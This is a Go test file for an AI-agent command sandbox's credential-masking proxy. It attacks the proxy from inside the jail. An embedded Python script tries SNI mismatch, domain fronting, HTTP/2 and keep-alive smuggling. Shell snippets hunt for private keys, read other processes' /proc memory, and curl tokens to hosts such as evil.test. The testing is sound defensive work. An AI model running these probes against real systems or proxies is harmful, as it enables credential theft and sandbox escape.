//go:build linux

package main

import (
	"encoding/base64"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/jail-mcp/jail-mcp/auth"
	"github.com/jail-mcp/jail-mcp/cmd/jail-mcp/internal/testkit"
)

// maskRaw speaks to the session's proxy byte by byte, as a hostile
// command would: CONNECT to one name, TLS under another or none, HTTP/2,
// several requests on one connection. It prints what came back; a
// handshake the proxy refuses prints "handshake refused".
const maskRaw = `
import os, socket, ssl, sys
proxy = os.environ["HTTPS_PROXY"].split("//")[1]
ph, pp = proxy.rsplit(":", 1)

def tunnel(target):
    s = socket.create_connection((ph, int(pp)), 10)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(1)
        if not c:
            break
        head += c
    if b" 200 " not in head.split(b"\r\n")[0]:
        print("connect refused:", head.split(b"\r\n")[0].decode())
        sys.exit(0)
    return s

def tls(s, sni, alpn=None, verify=True):
    ctx = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))
    if not verify:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    try:
        return ctx.wrap_socket(s, server_hostname=sni)
    except (ssl.SSLError, OSError) as e:
        print("handshake refused:", e)
        sys.exit(0)

def send(t, reqs):
    for r in reqs:
        t.sendall(r.encode())
    t.settimeout(10)
    out = b""
    try:
        while True:
            c = t.recv(65536)
            if not c:
                break
            out += c
    except Exception:
        pass
    print(out.decode(errors="replace"))

mode, target = sys.argv[1], sys.argv[2]
tok = os.environ["TOKEN"]
s = tunnel(target)
host = target.split(":")[0]
if mode == "sni":
    t = tls(s, sys.argv[3] or None, verify=False)
    send(t, ["GET /check HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (target, tok)])
elif mode == "front":
    t = tls(s, host, verify=sys.argv[4] == "verify")
    send(t, ["GET /check HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (sys.argv[3], tok)])
elif mode == "h2":
    t = tls(s, host, alpn=["h2"])
    print("alpn:", t.selected_alpn_protocol())
    send(t, ["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"])
elif mode == "keepalive":
    t = tls(s, host)
    send(t, [
        "GET /check HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n" % (target, tok),
        "GET /echo?token=%s HTTP/1.1\r\nHost: %s\r\nX-Smuggled: %s\r\n\r\n" % (tok, target, tok),
        "POST /echo HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n%s" % (target, len(tok), tok),
        "GET /check HTTP/1.1\r\nHost: other.test:%s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (target.split(":")[1], tok),
    ])
print("raw-finished")
`

// leaks lists the requests the provider got that hold a real secret
// anywhere but in an authentication header of a request to a host it is
// bound to (bound: secret -> its hosts).
func (p *provider) leaks(bound map[string][]string) []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	var out []string
	for _, r := range p.seen {
		for secret, hosts := range bound {
			auth := credentialHeader(r.Header)
			others := r.Header.Clone()
			for _, k := range []string{"Authorization", "X-Api-Key", "X-Goog-Api-Key", "Cookie"} {
				others.Del(k)
			}
			var b strings.Builder
			others.Write(&b)
			switch {
			case strings.Contains(r.Path+r.Query+r.Body+b.String(), secret):
				out = append(out, "a secret outside the authentication headers: "+r.Host+r.Path+"?"+r.Query)
			case strings.Contains(auth, secret) && !slices.Contains(hosts, strings.Split(r.Host, ":")[0]):
				out = append(out, "a secret sent to "+r.Host+r.Path+", which it is not bound to")
			}
		}
	}
	return out
}

func credentialHeader(h http.Header) string {
	return h.Get("Authorization") + h.Get("X-Api-Key") + h.Get("X-Goog-Api-Key") + h.Get("Cookie")
}

// Masked credentials (--mask), attacked from inside: the command holds
// placeholders and asks the proxy to put the real value in where it must
// not, or to give it back.
func (fx *escapeFixture) mask(t *testing.T) {
	h := newMaskHome(t)
	prov := newProvider(t, h.secrets()...)
	project := testkit.NewProject(t)
	caFile := filepath.Join(project, "provider-ca.pem")
	os.WriteFile(caFile, prov.caPEM, 0o644)
	env := slices2(fx.env(testkit.TestHosts+"="+prov.hosts(), testkit.TestRoots+"="+caFile, "PROVIDER_TOKEN="+h.token), "HOME="+h.home, "CLAUDE_CONFIG_DIR=")
	args := []string{"--auth", "claude", "--pass-env", "PROVIDER_TOKEN", "--mask", prov.maskFlag()}
	ts := fx.start(t, project, env, append([]string{"--session", "mask"}, args...)...)
	res, _ := ts.Exec(map[string]any{"command": `printf %s "$PROVIDER_TOKEN"`})
	token := res.Stdout
	if len(token) != len(h.token) || token == h.token {
		t.Fatalf("the jail's PROVIDER_TOKEN: %q", token)
	}
	claude, _ := auth.Lookup("claude")
	bound := map[string][]string{h.token: {"api.provider.test"}, h.access: claude.Hosts}
	target := "api.provider.test:" + prov.port
	vars := map[string]any{"TOKEN": token, "RAW": maskRaw, "CA": caFile, "PORT": prov.port}
	attack := func(t *testing.T, script string) string {
		t.Helper()
		res := fx.attack(t, ts, script, map[string]any{"env": vars})
		for _, l := range prov.leaks(bound) {
			fx.escape(t, "%s", l)
		}
		return res.Stdout
	}

	fx.vector(t, "ca-key", func(t *testing.T) {
		// The authority's key is in the server's memory only: no file
		// holds a private key the jail made or got, and no process's
		// memory, maps or environment of the host is readable. A key is
		// a PEM block's first line, alone on its line: the words
		// PRIVATE KEY alone are in every compiled crypto/x509 and in
		// this test's own binary, which a host build cache the view shows
		// (GOCACHE set, as CI systems set it) holds.
		out := attack(t, `
for d in "$HOME" "$PROJECT" /tmp /run /var/tmp /dev/shm; do
	grep -r -l -a -D skip -E '^-----BEGIN ([A-Z0-9]+ )*PRIVATE KEY-----$' "$d" 2>/dev/null | sed 's/^/ESCAPED: a private key in /'
done
n=0
for p in /proc/[0-9]*; do
	case "$(cat $p/comm 2>/dev/null)" in jail-mcp*) n=$((n+1));; *) continue;; esac
	head -c 64 $p/maps >/dev/null 2>&1 && echo "ESCAPED: read the maps of $p"
	python3 -c 'import sys; f=open(sys.argv[1]+"/mem","rb"); f.seek(4096); f.read(16); print("ESCAPED: read the memory of", sys.argv[1])' $p 2>/dev/null
done
echo "servers-seen=$n"
true
`)
		// Under landlock the host's processes are in view: the attack
		// must have found the server (and its session agent) to try.
		if fx.landlock() && strings.Contains(out, "servers-seen=0") {
			t.Errorf("the attack found no jail-mcp process to read: it proves nothing")
		}
	})
	fx.vector(t, "sni-mismatch", func(t *testing.T) {
		// TLS for a bound host asked under another name, or none: the
		// proxy speaks for the host it was asked to connect to only.
		for _, sni := range []string{"other.test", "evil.test", "''"} {
			out := attack(t, `python3 -c "$RAW" sni "api.provider.test:$PORT" `+sni)
			if strings.Contains(out, "authenticated as") {
				fx.escape(t, "TLS under the name %s authenticated a placeholder: %q", sni, out)
			}
		}
	})
	fx.vector(t, "fronting", func(t *testing.T) {
		// A bound host's tunnel with another Host, and an unbound host's
		// with a bound Host: neither gets the secret.
		out := attack(t, `python3 -c "$RAW" front "api.provider.test:$PORT" "other.test:$PORT" verify`)
		if !strings.Contains(out, "421") {
			t.Errorf("a bound tunnel with another Host: %q", out)
		}
		out = attack(t, `SSL_CERT_FILE="$CA" python3 -c "$RAW" front "other.test:$PORT" "api.provider.test:$PORT" verify`)
		if strings.Contains(out, "authenticated as") {
			fx.escape(t, "an unbound tunnel with a bound Host authenticated: %q", out)
		}
	})
	fx.vector(t, "h2", func(t *testing.T) {
		out := attack(t, `python3 -c "$RAW" h2 "api.provider.test:$PORT"`)
		if strings.Contains(out, "alpn: h2") {
			fx.escape(t, "the proxy spoke HTTP/2 to the jail: %q", out)
		}
	})
	fx.vector(t, "keepalive", func(t *testing.T) {
		// Every request of a kept-alive connection is checked: a second
		// one with the placeholder in its URL, another header, a body,
		// and one fronted to another host.
		out := attack(t, `python3 -c "$RAW" keepalive "api.provider.test:$PORT"`)
		if !strings.Contains(out, "authenticated as") || !strings.Contains(out, "421") {
			t.Errorf("keep-alive: %q", out)
		}
	})
	fx.vector(t, "url", func(t *testing.T) {
		attack(t, `
curl -sS -o /dev/null "https://api.provider.test:$PORT/echo?key=$TOKEN&access_token=$TOKEN"
curl -sS -o /dev/null "https://api.provider.test:$PORT/echo/$TOKEN"
curl -sS -o /dev/null -d "token=$TOKEN" "https://api.provider.test:$PORT/echo"
curl -sS -o /dev/null -d "refresh_token=$TOKEN&grant_type=refresh_token" "https://api.provider.test:$PORT/oauth/token"
curl -sS -o /dev/null -H "X-Other: $TOKEN" "https://api.provider.test:$PORT/echo"
true
`)
	})
	fx.vector(t, "loopback-name", func(t *testing.T) {
		// A name of nothing that resolves to loopback, and the address
		// itself: blind tunnels, the placeholder as it is.
		out := attack(t, `
curl -sS --cacert "$CA" -H "Authorization: Bearer $TOKEN" "https://evil.test:$PORT/check"; echo
curl -sS -k -H "Host: api.provider.test:$PORT" -H "Authorization: Bearer $TOKEN" "https://127.0.0.1:$PORT/check"; echo
`)
		if strings.Contains(out, "authenticated as") {
			fx.escape(t, "a placeholder authenticated to a host it is not bound to: %q", out)
		}
	})
	fx.vector(t, "echo", func(t *testing.T) {
		out := attack(t, `
curl -sS -H "Authorization: Bearer $TOKEN" "https://api.provider.test:$PORT/echo"
curl -sS --compressed -H "Authorization: Bearer $TOKEN" "https://api.provider.test:$PORT/echo?gzip=1"
curl -sS -H "Accept-Encoding: gzip" -H "Authorization: Bearer $TOKEN" "https://api.provider.test:$PORT/echo?gzip=1" | gzip -dc 2>/dev/null
curl -sS -H "Authorization: Bearer $TOKEN" "https://api.provider.test:$PORT/nothing"
`)
		if strings.Contains(out, h.token) {
			fx.escape(t, "the bound host's answer gave the jail the secret")
		}
		if !strings.Contains(out, token) {
			t.Errorf("the echo does not reflect the placeholder: %q", out)
		}
	})
	fx.vector(t, "basic-echo", func(t *testing.T) {
		// The proxy writes the value into a Basic credential, base64:
		// a host that echoes it echoes that base64 (issue 44).
		out := attack(t, `
curl -sS -u "x-access-token:$TOKEN" "https://api.provider.test:$PORT/echo"
curl -sS -u "x-access-token:$TOKEN" "https://api.provider.test:$PORT/echo?gzip=1" | gzip -dc 2>/dev/null
`)
		for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding, base64.RawURLEncoding} {
			if strings.Contains(out, enc.EncodeToString([]byte("x-access-token:"+h.token))) {
				fx.escape(t, "the bound host's echo of a Basic credential gave the jail the secret in base64: %q", out)
			}
		}
		if !strings.Contains(out, base64.StdEncoding.EncodeToString([]byte("x-access-token:"+token))) {
			t.Errorf("the echo does not reflect the placeholder's Basic credential: %q", out)
		}
	})
	fx.vector(t, "own-answer", func(t *testing.T) {
		// An answer the proxy cannot read quotes the credential it was
		// sent: the proxy's own 502 must not (issue 44).
		out := attack(t, `curl -sS -w ' %{http_code}' -H "Authorization: Bearer $TOKEN" "https://api.provider.test:$PORT/malformed"`)
		if strings.Contains(out, h.token) {
			fx.escape(t, "the proxy's own answer gave the jail the secret: %q", out)
		}
		if !strings.Contains(out, "502") {
			t.Errorf("an answer that does not read: %q, want the proxy's 502", out)
		}
	})
	fx.vector(t, "other-port", func(t *testing.T) {
		// The bound host on a port --mask does not name: a blind
		// tunnel, the placeholder as sent (issue 44).
		vars["PORT2"] = prov.listen(t)
		out := attack(t, `curl -sS --cacert "$CA" -H "Authorization: Bearer $TOKEN" "https://api.provider.test:$PORT2/check"`)
		if strings.Contains(out, "authenticated as") {
			fx.escape(t, "the placeholder authenticated on a port the credential is not bound to: %q", out)
		}
		if !strings.Contains(out, "unauthenticated: got "+token) {
			t.Errorf("the placeholder on another port: %q", out)
		}
	})
	fx.vector(t, "other-session", func(t *testing.T) {
		// Another session's placeholders are its own: this session's
		// proxy does not know them.
		other := fx.start(t, project, env, append([]string{"--session", "mask-b"}, args...)...)
		res, _ := other.Exec(map[string]any{"command": `printf %s "$PROVIDER_TOKEN"`})
		if res.Stdout == token || len(res.Stdout) != len(token) {
			t.Fatalf("session b's placeholder %q, a's %q: want another of the same shape", res.Stdout, token)
		}
		vars["TOKEN"] = res.Stdout
		defer func() { vars["TOKEN"] = token }()
		out := attack(t, `curl -sS -H "Authorization: Bearer $TOKEN" "https://`+target+`/check"`)
		if strings.Contains(out, "authenticated as") {
			fx.escape(t, "session b's placeholder authenticated through session a's proxy")
		}
	})
}

// slices2 is env without the variables of set, then set.
func slices2(env []string, set ...string) []string {
	var out []string
	for _, kv := range env {
		k, _, _ := strings.Cut(kv, "=")
		keep := true
		for _, s := range set {
			if strings.HasPrefix(s, k+"=") {
				keep = false
			}
		}
		if keep {
			out = append(out, kv)
		}
	}
	return append(out, set...)
}
